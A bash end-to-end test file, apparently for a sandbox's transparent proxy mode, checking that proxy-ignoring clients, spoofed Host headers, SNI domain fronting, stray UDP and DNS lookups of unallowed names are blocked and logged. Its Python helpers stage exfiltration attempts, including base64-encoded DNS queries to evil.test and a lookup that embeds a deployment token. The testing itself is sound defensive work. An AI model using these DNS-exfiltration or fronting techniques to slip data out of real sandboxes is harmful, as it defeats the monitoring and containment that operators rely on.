# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash
#
# network.mode: transparent. Clients that ignore the proxy variables are
# redirected to the proxy anyway (nftables inside the sandbox's network
# namespace), and the sandbox's DNS answers only names the policy allows.
# The servers, the shared policy and the python client are t_proxy.sh's.

# shellcheck source=tests/e2e/t_proxy.sh
. "$here/t_proxy.sh"

transparent_policy() {
	net_policy "  mode: transparent"
}

# run_ignoring_proxy CMD...: CMD inside the transparent sandbox with the
# proxy variables removed, as a client that never heard of them.
run_ignoring_proxy() {
	al_policy "$(transparent_policy)" -- /usr/bin/env -u HTTP_PROXY -u http_proxy -u HTTPS_PROXY \
		-u https_proxy -u ALL_PROXY -u all_proxy "$@"
}

test_transparent_filters_clients_that_ignore_the_proxy() {
	start_servers
	write_client
	run_ignoring_proxy /usr/bin/curl -sS --noproxy '*' "http://api.test:$HP/public/readme"
	assert_contains "$OUT" '"path": "/public/readme"' "curl --noproxy to an allowed path"
	run_ignoring_proxy /usr/bin/curl -sS --noproxy '*' "http://api.test:$HP/private/keys"
	assert_contains "$OUT" "airlock:" "curl --noproxy to a path no rule allows gets the proxy's 403"
	assert_not_contains "$OUT" '"path": "/private/keys"' "the denied request never reached the server"
	run_ignoring_proxy /usr/bin/python3 ./fetch.py GET "http://api.test:$HP/public/py"
	assert_match "$OUT" '^200 .*"path": "/public/py"' "a python client without proxy variables"
	run_ignoring_proxy /usr/bin/python3 ./fetch.py DELETE "http://api.test:$HP/public/py"
	assert_match "$OUT" '^403 ' "a method the rule does not name"
	run_ignoring_proxy /usr/bin/curl -sS --noproxy '*' "http://other.test:$HP/public/readme"
	assert_ne 0 "$RC" "a name no endpoint allows"
	assert_contains "$ERR" "resolve" "the sandbox's DNS does not know the name"
	assert_contains "$(cat "$T/net.jsonl")" '"kind":"transparent"' "redirected requests are recorded as such"
	# The explicit proxy still works in this mode.
	al_policy "$(transparent_policy)" -- /usr/bin/python3 ./fetch.py GET "http://api.test:$HP/public/via-proxy"
	assert_match "$OUT" '^200 .*"path": "/public/via-proxy"' "a client that uses HTTP_PROXY"
}

test_transparent_decides_raw_addresses_and_other_protocols() {
	start_servers
	cat >"$WS/raw.py" <<'PY'
import socket, sys
host, port, hosthdr = sys.argv[1], int(sys.argv[2]), sys.argv[3]
try:
    s = socket.create_connection((host, port), timeout=10)
    s.sendall(f"GET /public/x HTTP/1.1\r\nHost: {hosthdr}\r\nConnection: close\r\n\r\n".encode())
    print("ANSWER", s.recv(4096).split(b"\r\n")[0].decode())
except Exception as e:
    print("ERROR", type(e).__name__, e)
PY
	# A raw address is decided as itself: 192.0.2.1 is no endpoint, and
	# naming an allowed host in the Host header does not change where the
	# connection goes.
	run_ignoring_proxy /usr/bin/python3 ./raw.py 192.0.2.1 "$HP" "api.test:$HP"
	assert_contains "$OUT" "ANSWER HTTP/1.1 403" "a raw address with an allowed Host header"
	assert_contains "$(cat "$T/net.jsonl")" "disagrees with the connection's destination 192.0.2.1" \
		"the mismatch is recorded"
	run_ignoring_proxy /usr/bin/python3 ./raw.py api.test "$HP" "other.test:$HP"
	assert_contains "$OUT" "ANSWER HTTP/1.1 403" "an allowed name with another Host header"
	run_ignoring_proxy /usr/bin/python3 ./raw.py api.test "$HP" "api.test:$HP"
	assert_contains "$OUT" "ANSWER HTTP/1.1 200" "the same request with its own Host"
	# IPv6 is redirected the same way.
	run_ignoring_proxy /usr/bin/python3 ./raw.py 2001:db8::1 80 "[2001:db8::1]"
	assert_contains "$OUT" "ANSWER HTTP/1.1 403" "a raw IPv6 address"
	# UDP other than DNS, and ICMP-less protocols, go nowhere.
	run_ignoring_proxy /usr/bin/python3 -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b'x', ('192.0.2.1', 9999)); print('SENT')
except OSError as e:
    print('REFUSED', e.errno)
"
	assert_contains "$OUT" "REFUSED" "UDP to a port other than 53"
}

test_transparent_tls_checks_the_name() {
	start_servers
	cat >"$WS/tls.py" <<'PY'
import socket, ssl, sys
host, port, sni, ca = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
ctx = ssl.create_default_context(cafile=ca)
ctx.check_hostname = False
try:
    s = socket.create_connection((host, port), timeout=10)
    t = ctx.wrap_socket(s, server_hostname=sni)
    t.sendall(f"GET /ok/t HTTP/1.1\r\nHost: {sni}\r\nConnection: close\r\n\r\n".encode())
    print("TLS-OK", t.recv(4096).split(b"\r\n")[0].decode())
except Exception as e:
    print("TLS-FAIL", type(e).__name__)
PY
	cp "$T/srv/ca.pem" "$WS/ca.pem"
	run_ignoring_proxy /usr/bin/python3 ./tls.py tunnel.test "$SP" tunnel.test ./ca.pem
	assert_contains "$OUT" "TLS-OK HTTP/1.1 200" "a TLS connection whose SNI is its name"
	run_ignoring_proxy /usr/bin/python3 ./tls.py tunnel.test "$SP" other.test ./ca.pem
	assert_contains "$OUT" "TLS-FAIL" "SNI naming another host (domain fronting)"
	assert_contains "$(cat "$T/net.jsonl")" "does not match TLS to tunnel.test" "the fronting attempt is recorded"
	# An intercepted endpoint: the session CA is trusted inside, and each
	# request in the connection is decided.
	run_ignoring_proxy /usr/bin/curl -sS --noproxy '*' "https://secure.test:$SP/ok/page"
	assert_contains "$OUT" '"path": "/ok/page"' "curl --noproxy over intercepted HTTPS"
	run_ignoring_proxy /usr/bin/curl -sS --noproxy '*' "https://secure.test:$SP/admin"
	assert_contains "$OUT" "airlock:" "intercepted HTTPS outside the rule"
}

test_transparent_dns_answers_only_allowed_names() {
	start_servers
	cat >"$WS/dns.py" <<'PY'
import os, socket, struct, sys
def query(name, qtype, server=("192.0.2.53", 53)):
    qid = int.from_bytes(os.urandom(2), "big")
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack(">HH", qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(q, server)
    r = s.recv(1500)
    rid, flags, qd, an = struct.unpack(">HHHH", r[:8])
    addr = ""
    if an:
        addr = socket.inet_ntoa(r[-4:])
    return f"{name} type={qtype} id_ok={rid == qid} rcode={flags & 15} answers={an} {addr}"
for arg in sys.argv[1:]:
    name, qtype = arg.split(":")
    print(query(name, int(qtype)))
try:
    socket.getaddrinfo("exfil-c2VjcmV0.evil.test", 80)
    print("RESOLVED")
except socket.gaierror as e:
    print("GAIERROR", e.errno)
PY
	local tok="tok$RANDOM$RANDOM$RANDOM"
	DEPLOY_TOKEN="$tok" run_ignoring_proxy /usr/bin/python3 ./dns.py api.test:1 api.test:28 api.test:16 \
		c2VjcmV0ZGF0YQ.evil.test:1 evil.test:16 "$tok.api.test:1"
	assert_match "$OUT" 'api.test type=1 id_ok=True rcode=0 answers=1 198\.(18|19)\.' \
		"an allowed name gets a synthetic address from the resolver the agent chose"
	assert_match "$OUT" 'api.test type=28 id_ok=True rcode=0 answers=0' "AAAA of an allowed name: empty"
	assert_match "$OUT" 'api.test type=16 id_ok=True rcode=0 answers=0' "TXT of an allowed name: empty"
	assert_match "$OUT" 'c2VjcmV0ZGF0YQ.evil.test type=1 id_ok=True rcode=3' "a name no endpoint allows: NXDOMAIN"
	assert_match "$OUT" 'evil.test type=16 id_ok=True rcode=3' "TXT exfiltration: NXDOMAIN"
	assert_match "$OUT" "$tok.api.test type=1 id_ok=True rcode=3" "a name carrying a known secret"
	assert_contains "$OUT" "GAIERROR" "the system resolver gets no address for a denied name"
	local log
	log=$(cat "$T/net.jsonl")
	assert_contains "$log" '"kind":"dns","method":"A","host":"c2vjcmv0zgf0yq.evil.test"' \
		"the exfiltration attempt is recorded with its name"
	assert_contains "$log" '"host":"exfil-c2vjcmv0.evil.test"' "the system resolver's query is recorded"
	assert_contains "$log" '"kind":"leak"' "the secret in a name is recorded as a leak"
	assert_not_contains "$log" "$tok" "the log never holds the secret"
}
